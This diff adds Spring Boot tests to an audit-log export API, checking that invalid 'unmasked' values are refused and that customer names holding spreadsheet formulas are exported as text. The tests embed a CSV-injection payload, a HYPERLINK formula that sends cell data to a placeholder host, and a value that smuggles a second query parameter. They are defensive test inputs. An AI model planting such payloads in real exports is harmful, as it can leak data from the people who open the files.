@@ -20,8 +20,10 @@ import org.springframework.http.HttpMethod;
 import org.springframework.http.HttpStatus;
 import org.springframework.http.ResponseEntity;
 import org.springframework.jdbc.core.JdbcTemplate;
+import org.springframework.test.context.ActiveProfiles;
 
 /** The decision log as a compliance reviewer uses it: search, export, replay, explain, verify, and catch tampering. */
+@ActiveProfiles("demo")
 @SpringBootTest(webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT,
         properties = "spring.datasource.url=jdbc:h2:mem:audit-api-test;DB_CLOSE_DELAY=-1")
 class AuditApiTest {
@@ -86,6 +88,38 @@ class AuditApiTest {
         assertThat(logged.at("/entries/0/actor").asText()).isEqualTo("auditor");
         assertThat(jdbc.queryForObject("select content from audit_entry where seq = ?", String.class,
                 logged.at("/entries/0/seq").asLong())).contains("Court order 2026-118").contains("AUD-EXPORT");
+    }
+
+    @Test
+    void anUnmaskedSwitchOtherThanTrueOrFalseIsRefusedNamingItAndNothingIsExported() throws Exception {
+        decide("switch-1", "AUD-SWITCH");
+        String exports = "select count(*) from audit_entry where kind in ('AUDIT_EXPORT', 'AUDIT_EXPORT_UNMASKED')";
+        long before = jdbc.queryForObject(exports, Long.class);
+        for (String user : List.of("admin", "auditor")) {
+            for (String value : List.of("1", "yes", "on", "TRUE", "true&unmasked=false")) {
+                ResponseEntity<String> refused = call(user, HttpMethod.GET,
+                        "/api/v1/audit/export?accountId=AUD-SWITCH&reason=Complaint&unmasked=" + value);
+                assertThat(refused.getStatusCode()).as("%s unmasked=%s", user, value).isEqualTo(HttpStatus.BAD_REQUEST);
+                assertThat(refused.getBody()).contains("\"field\":\"unmasked\"", "must be true or false").doesNotContain("刘先生");
+            }
+        }
+        assertThat(jdbc.queryForObject(exports, Long.class)).isEqualTo(before);
+        List<String[]> masked = csv(call("admin", HttpMethod.GET, "/api/v1/audit/export?accountId=AUD-SWITCH&unmasked=false"));
+        assertThat(column(masked, "customer_name")).isEqualTo("刘**");
+    }
+
+    @Test
+    void aNameThatASpreadsheetWouldRunIsExportedAsText() throws Exception {
+        String formula = "=HYPERLINK(\"http://x.example/?\"&A1,\"pay\")";
+        ResponseEntity<String> decided = new DecisionCalls(http).post("billing", Examples.heatingBeijing()
+                .replace("BJ-0001-2026-12-20", "formula-1").replace("\"BJ-0001\"", "\"AUD-FORMULA\"")
+                .replace("\"刘先生\"", json.writeValueAsString(formula)));
+        assertThat(decided.getStatusCode()).isEqualTo(HttpStatus.CREATED);
+        List<String[]> unmasked = csv(call("auditor", HttpMethod.GET,
+                "/api/v1/audit/export?accountId=AUD-FORMULA&unmasked=true&reason=Complaint 2026-119"));
+        assertThat(column(unmasked, "customer_name")).isEqualTo("'" + formula);
+        List<String[]> masked = csv(call("auditor", HttpMethod.GET, "/api/v1/audit/export?accountId=AUD-FORMULA"));
+        assertThat(column(masked, "customer_name")).startsWith("'=*");
     }
 
     @Test
